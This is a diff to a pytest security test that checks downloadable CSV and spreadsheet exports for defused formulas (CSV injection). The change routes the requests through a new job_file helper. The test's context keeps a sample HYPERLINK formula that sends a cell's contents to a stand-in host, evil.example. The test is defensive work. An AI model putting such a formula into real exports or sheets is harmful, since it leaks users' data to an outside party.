@@ -9,6 +9,7 @@ import pytest
 from openpyxl import load_workbook
 
 from tests.security.conftest import build_world, contest_login, paths, rules
+from tests.factories import job_file
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
 #: Every prefix a spreadsheet treats as the start of a formula (OWASP "CSV injection").
@@ -97,7 +98,7 @@ def test_every_downloadable_export_defuses_formulas_in_cells_and_headers(app, lo
             spreadsheet_rules.add(rule.rule)
     candidates = [path for rule in rules(app, {"GET"}) for path in paths(rule, world.a, app)] + extra
     for path in candidates:
-        response = client.get(path)
+        response = job_file(client, path)
         if response.status_code != 200:
             continue
         if response.mimetype == "text/csv":
